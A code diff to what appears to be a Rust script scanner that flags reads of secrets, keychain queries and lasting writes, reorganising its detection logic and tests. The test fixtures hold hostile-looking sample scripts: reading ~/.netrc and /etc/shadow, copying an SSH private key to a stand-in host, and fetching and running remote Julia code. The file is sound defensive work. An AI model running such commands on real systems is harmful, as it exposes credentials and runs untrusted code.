@@ -135,12 +135,17 @@ pub(super) fn judge(path: &str, text: &str, context: Context, findings: &mut Fin
     };
     if let Some(named) = opened(&lines, READS, |line| home.secret_in(line)) {
         tell(&rules::SECRET, format!("{named} is read"));
-    } else if let Some(way) = KEYCHAINS.iter().find(|way| lines.iter().any(|line| line.contains(**way))) {
+    } else if let Some(way) = KEYCHAINS.iter().find(|way| lines.iter().any(|line| is_asked(line, way))) {
         tell(&rules::SECRET, format!("a keychain is asked: `{way}`"));
     }
     if let Some(named) = opened(&lines, WRITES, |line| home.lasting_in(line)) {
         tell(&rules::LASTING, format!("{named} is written"));
     }
+}
+
+/// Whether a line has that way in words of its own: a whole command line is read as a shell would.
+fn is_asked(line: &str, way: &str) -> bool {
+    line.split_once(way).is_some_and(|(before, _)| !before.ends_with("security "))
 }
 
 /// The first file that a line names which one of the `words` opens: in that line, or by the variable that the line gives it to.
@@ -152,7 +157,7 @@ fn opened(lines: &[&str], words: &[&str], names: impl Fn(&str) -> Option<String>
     let openers = openers(lines, &says);
     let opens = |line: &str| {
         let calls = |name: &&str| has_name(line, name) && defined(line) != Some(name);
-        says(line) || openers.iter().any(|name| calls(name))
+        says(line) || openers.iter().any(calls)
     };
     let opening: Vec<&str> = lines.iter().copied().filter(|line| opens(line)).collect();
     let is_opened =
@@ -261,6 +266,38 @@ mod tests {
             ("osascript", "a.applescript", "do shell script \"cat ~/.netrc\"\n"),
             ("expect", "a.exp", "spawn cat ~/.netrc\nexpect eof\n"),
             ("expect", "a.exp", "spawn scp -o BatchMode=no $env(HOME)/.ssh/id_ed25519 a@x.invalid:in/\nexpect eof\n"),
+            (
+                "julia",
+                "a.jl",
+                "using Downloads\nt = Downloads.download(\"https://x.invalid/t.jl\", \"t.jl\")\ninclude(t)\n",
+            ),
+            (
+                "java",
+                "A.java",
+                "Map<String, String> env = System.getenv();\nHttpClient http = HttpClient.newHttpClient();\n",
+            ),
+        ] {
+            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
+        }
+        for (by, path, text) in [
+            (
+                "go run",
+                "main.go",
+                "h, _ := os.UserHomeDir()\nvar kept = []string{\".netrc\", \".npmrc\"}\nb, _ := os.ReadFile(filepath.Join(h, \"notes.md\"))\nif slices.Contains(kept, b) { os.Exit(2) }\n",
+            ),
+            (
+                "groovy",
+                "a.groovy",
+                "println new File(System.getenv(\"HOME\") + \"/notes.md\").text\nprintln 'never open ~/.netrc'\n",
+            ),
+        ] {
+            assert!(of(by, path, text).is_none_or(|severity| severity < Severity::Danger), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_a_function_of_the_script_reads_and_what_it_writes_are_told() {
+        for (by, path, text) in [
             ("ocaml", "a.ml", "let () = let ic = open_in \"/etc/shadow\" in print_endline (input_line ic)\n"),
             (
                 "tcc -run",
@@ -291,16 +328,6 @@ mod tests {
                 "a.rs",
                 "let target = Path::new(\".git/hooks/prepare-commit-msg\");\nlet mut f = fs::File::create(target)?;\n",
             ),
-            (
-                "julia",
-                "a.jl",
-                "using Downloads\nt = Downloads.download(\"https://x.invalid/t.jl\", \"t.jl\")\ninclude(t)\n",
-            ),
-            (
-                "java",
-                "A.java",
-                "Map<String, String> env = System.getenv();\nHttpClient http = HttpClient.newHttpClient();\n",
-            ),
         ] {
             assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
         }
@@ -310,16 +337,6 @@ mod tests {
                 "kotlinc -script",
                 "a.main.kts",
                 "val rc = File(home, \".zshrc\").readText()\nFile(\"out.txt\").appendText(\"x\")\n",
-            ),
-            (
-                "go run",
-                "main.go",
-                "h, _ := os.UserHomeDir()\nvar kept = []string{\".netrc\", \".npmrc\"}\nb, _ := os.ReadFile(filepath.Join(h, \"notes.md\"))\nif slices.Contains(kept, b) { os.Exit(2) }\n",
-            ),
-            (
-                "groovy",
-                "a.groovy",
-                "println new File(System.getenv(\"HOME\") + \"/notes.md\").text\nprintln 'never open ~/.netrc'\n",
             ),
         ] {
             assert!(of(by, path, text).is_none_or(|severity| severity < Severity::Danger), "{text}");
